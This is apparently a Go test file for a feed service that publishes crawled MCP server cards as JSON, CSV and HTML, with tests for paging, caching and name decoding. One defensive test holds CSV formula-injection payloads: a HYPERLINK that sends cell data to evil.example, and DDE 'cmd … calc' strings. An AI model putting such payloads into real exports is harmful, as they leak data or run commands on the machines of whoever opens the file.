package feed_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"flag"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/cardcrawl/cardcrawl/internal/feed"
	"github.com/cardcrawl/cardcrawl/internal/finding"
	"github.com/cardcrawl/cardcrawl/store"
)

var update = flag.Bool("update", false, "rewrite golden files")

func intp(n int) *int { return &n }

// servers is a small, fixed store answer: two endpoints of one card, one
// endpoint of an inline card, and a card without remotes.
func servers() []store.Server {
	weather := store.CardRow{Key: "https://cards.example.net/weather", SourceURL: "https://cards.example.net/weather",
		SHA256: "aa", Name: "com.example/weather", Title: "Weather", Version: "1.0.0", Description: "Forecasts",
		Grade: "conformant", FirstSeen: "2026-11-01T00:00:00Z", LastSeen: "2026-11-02T00:00:00Z",
		JSON: `{"name":"com.example/weather","version":"1.0.0","description":"Forecasts","title":"Weather",` +
			`"repository":{"url":"https://github.com/example/weather","source":"github"},` +
			`"remotes":[{"type":"streamable-http","url":"https://mcp.weather.example/mcp"},{"type":"sse","url":"https://mcp.weather.example/sse"}]}`}
	notes := store.CardRow{Key: "https://notes.example/.well-known/ai-catalog.json#/entries/0/data", Inline: true,
		SHA256: "bb", Name: "com.example/notes", Version: "2.0", Description: "Notes", Grade: "near_conformant",
		Findings: finding.List{{Severity: finding.Warning, Code: "schema_missing", Message: "m"}, {Severity: finding.Warning, Code: "schema_missing", Message: "m"}},
		JSON:     `{"name":"com.example/notes","version":"2.0","description":"Notes","remotes":[{"type":"streamable-http","url":"https://notes.example/mcp"}]}`}
	stdio := store.CardRow{Key: "https://stdio.example/card.json", SourceURL: "https://stdio.example/card.json", SHA256: "cc",
		Name: "com.example/stdio", Version: "0.1.0", Description: "Local only", Grade: "conformant",
		JSON:      `{"name":"com.example/stdio","version":"0.1.0","description":"Local only"}`,
		FirstSeen: "2026-11-01T00:00:00Z", LastSeen: "2026-11-01T00:00:00Z"}
	l := func(d string) store.Listing {
		return store.Listing{Domain: d, CatalogURL: "https://" + d + "/.well-known/ai-catalog.json", Identifier: "urn:air:" + d + ":mcp:x"}
	}
	return []store.Server{
		{EndpointNorm: "https://mcp.weather.example/mcp", Endpoint: "https://mcp.weather.example/mcp", Transport: "streamable-http",
			Card: weather, Listings: []store.Listing{l("example.com"), l("example.org")}, FirstSeen: "2026-11-01T00:00:00Z", LastSeen: "2026-11-02T00:00:00Z",
			Probe: &store.ProbeRow{Outcome: "ok", ProbedAt: "2026-11-02T00:00:01Z", Transport: "streamable-http", Protocol: "2025-06-18",
				ServerName: "weather", ServerVersion: "1.0.0", ToolCount: intp(3)}},
		{EndpointNorm: "https://mcp.weather.example/sse", Endpoint: "https://mcp.weather.example/sse", Transport: "sse",
			Card: weather, Listings: []store.Listing{l("example.com")}, FirstSeen: "2026-11-01T00:00:00Z", LastSeen: "2026-11-02T00:00:00Z",
			Decision: &store.ProbeDecision{Decision: "skip", Reason: "fresh"}},
		{EndpointNorm: "https://notes.example/mcp", Endpoint: "https://notes.example/mcp", Transport: "streamable-http",
			Card: notes, Listings: []store.Listing{l("notes.example")}, FirstSeen: "2026-11-01T00:00:00Z", LastSeen: "2026-11-01T00:00:00Z"},
		{Card: stdio, Listings: []store.Listing{l("stdio.example")}, FirstSeen: stdio.FirstSeen, LastSeen: stdio.LastSeen},
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/feed -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

func TestFormats(t *testing.T) {
	recs := feed.Records(servers())
	for _, f := range feed.Formats {
		t.Run(f, func(t *testing.T) {
			var buf bytes.Buffer
			if err := feed.Write(&buf, f, recs); err != nil {
				t.Fatal(err)
			}
			golden(t, "feed."+f, buf.Bytes())
		})
	}
	if err := feed.Write(io.Discard, "xml", recs); err == nil {
		t.Error("unknown format accepted")
	}
}

// TestRegistryListGroupsByCard checks that endpoints of one card become one
// server.json-shaped entry carrying both remotes.
func TestRegistryListGroupsByCard(t *testing.T) {
	list := feed.RegistryList(feed.Records(servers()))
	var names []string
	var remotes []int
	for _, e := range list.Servers {
		names = append(names, e.Server["name"].(string))
		rs, _ := json.Marshal(e.Server["remotes"])
		var arr []any
		_ = json.Unmarshal(rs, &arr)
		remotes = append(remotes, len(arr))
	}
	if diff := cmp.Diff([]string{"com.example/weather", "com.example/notes", "com.example/stdio"}, names); diff != "" {
		t.Errorf("names (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]int{2, 1, 0}, remotes); diff != "" {
		t.Errorf("remote counts (-want +got):\n%s", diff)
	}
}

func TestServe(t *testing.T) {
	srv := httptest.NewServer(feed.Handler(feed.ServerOptions{Source: func(context.Context) ([]feed.Record, error) {
		return feed.Records(servers()), nil
	}}))
	defer srv.Close()
	get := func(path string) (int, string, string) {
		t.Helper()
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, resp.Header.Get("Content-Type"), string(b)
	}

	// Page through the list API two at a time.
	var names []string
	cursor := ""
	for range 5 {
		path := "/v0.1/servers?limit=2"
		if cursor != "" {
			path += "&cursor=" + cursor
		}
		code, _, body := get(path)
		if code != 200 {
			t.Fatalf("%s: %d %s", path, code, body)
		}
		var page struct {
			Servers []struct {
				Server struct{ Name string }
			}
			Metadata struct {
				Count      int
				NextCursor string
			}
		}
		if err := json.Unmarshal([]byte(body), &page); err != nil {
			t.Fatal(err)
		}
		for _, s := range page.Servers {
			names = append(names, s.Server.Name)
		}
		cursor = page.Metadata.NextCursor
		if cursor == "" {
			break
		}
	}
	if diff := cmp.Diff([]string{"com.example/weather", "com.example/notes", "com.example/stdio"}, names); diff != "" {
		t.Errorf("paged names (-want +got):\n%s", diff)
	}

	if code, _, body := get("/v0.1/servers/" + strings.ReplaceAll("com.example/notes", "/", "%2F") + "/versions/latest"); code != 200 || !strings.Contains(body, `"com.example/notes"`) {
		t.Errorf("latest: %d %s", code, body)
	}
	if code, ct, _ := get("/v0.1/servers/com.example%2Fnone/versions/latest"); code != 404 || ct != "application/problem+json" {
		t.Errorf("missing server: %d %s", code, ct)
	}
	if code, _, _ := get("/v0.1/servers?limit=0"); code != 400 {
		t.Errorf("limit=0: %d, want 400", code)
	}
	if code, _, _ := get("/v0.1/servers?cursor=!!"); code != 400 {
		t.Errorf("bad cursor: %d, want 400", code)
	}
	code, ct, body := get("/")
	if code != 200 || !strings.HasPrefix(ct, "text/html") || !strings.Contains(body, "https://mcp.weather.example/mcp") ||
		!strings.Contains(body, "(3 tools)") {
		t.Errorf("page: %d %s\n%s", code, ct, body)
	}
	for path, want := range map[string]string{"/feed.jsonl": "application/jsonl", "/feed.csv": "text/csv; charset=utf-8",
		"/feed.json": "application/json", "/.well-known/ai-catalog.json": "application/ai-catalog+json"} {
		if code, ct, _ := get(path); code != 200 || ct != want {
			t.Errorf("%s: %d %s, want 200 %s", path, code, ct, want)
		}
	}
}

func TestRegistryListSkipsNameless(t *testing.T) {
	ss := servers()
	ss[3].Card.Name = ""
	list := feed.RegistryList(feed.Records(ss))
	for _, e := range list.Servers {
		if e.Server["name"] == "" {
			t.Errorf("entry without a name: %v", e.Server)
		}
	}
	if len(list.Servers) != 2 {
		t.Errorf("%d entries, want 2", len(list.Servers))
	}
}

// TestServeCachesReads: paging must not reread the database for every page,
// and a changed feed shows once the cache expires.
func TestServeCachesReads(t *testing.T) {
	reads := 0
	now := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	h := feed.Handler(feed.ServerOptions{
		Source: func(context.Context) ([]feed.Record, error) { reads++; return feed.Records(servers()), nil },
		Now:    func() time.Time { return now },
	})
	get := func(path string) int {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, path, nil))
		return rec.Code
	}
	for range 3 {
		get("/v0.1/servers?limit=1")
	}
	if reads != 1 {
		t.Errorf("%d reads for 3 requests within the cache time, want 1", reads)
	}
	now = now.Add(6 * time.Second)
	get("/v0.1/servers")
	if reads != 2 {
		t.Errorf("%d reads after the cache expired, want 2", reads)
	}
	if code := get("/v0.1/servers?cursor=" + base64.RawURLEncoding.EncodeToString([]byte("https://gone.example/card"))); code != http.StatusBadRequest {
		t.Errorf("stale cursor: %d, want 400", code)
	}
}

// TestCSVNeutralisesFormulas: card text that a spreadsheet would run as a
// formula is written with a leading quote (OWASP), in the one CSV writer
// that export and /feed.csv share.
func TestCSVNeutralisesFormulas(t *testing.T) {
	ss := servers()[:1]
	c := &ss[0].Card
	c.Name = `=HYPERLINK("https://evil.example/?"&A1,"click")`
	c.Title = "+cmd|' /C calc'!A0"
	c.Version = "-2+3"
	ss[0].Listings = ss[0].Listings[:1]
	ss = append(ss, ss[0], ss[0], ss[0])
	ss[1].Card.Name, ss[1].Card.Title, ss[1].Card.Version = "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR"
	ss[2].Card.Name, ss[2].Card.Title, ss[2].Card.Version = "safe = name", "a-b", "1.0.0-rc.1"
	ss[3].Card.Name, ss[3].Card.Title, ss[3].Card.Version = "'quoted", "\"=quoted\"", " =space"
	var buf bytes.Buffer
	if err := feed.Write(&buf, "csv", feed.Records(ss)); err != nil {
		t.Fatal(err)
	}
	golden(t, "formulas.csv", buf.Bytes())
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	if got := rows[3][3]; got != "safe = name" {
		t.Errorf("a harmless cell changed: %q", got)
	}
}

// TestLatestDecodesTheNameOnce: the mux already decodes the {name} segment;
// a second decoding broke names holding "%" and made a literal "%41"
// unreachable.
func TestLatestDecodesTheNameOnce(t *testing.T) {
	ss := servers()
	ss[0].Card.Name, ss[1].Card.Name = "com.example/a%41", "com.example/a%41"
	ss[2].Card.Name = "com.example/100%"
	ss[3].Card.Name = "com.example/aA"
	h := feed.Handler(feed.ServerOptions{Source: func(context.Context) ([]feed.Record, error) { return feed.Records(ss), nil }})
	for _, tc := range []struct{ path, want string }{
		{"/v0.1/servers/com.example%2Fa%2541/versions/latest", "com.example/a%41"},
		{"/v0.1/servers/com.example%2F100%25/versions/latest", "com.example/100%"},
		{"/v0.1/servers/com.example%2Fa%41/versions/latest", "com.example/aA"},
		{"/v0.1/servers/com.example%2FaA/versions/latest", "com.example/aA"},
	} {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, tc.path, nil))
		var got struct{ Server struct{ Name string } }
		_ = json.Unmarshal(rec.Body.Bytes(), &got)
		if rec.Code != http.StatusOK || got.Server.Name != tc.want {
			t.Errorf("%s: %d, name %q; want 200 and %q\n%s", tc.path, rec.Code, got.Server.Name, tc.want, rec.Body.String())
		}
	}
}
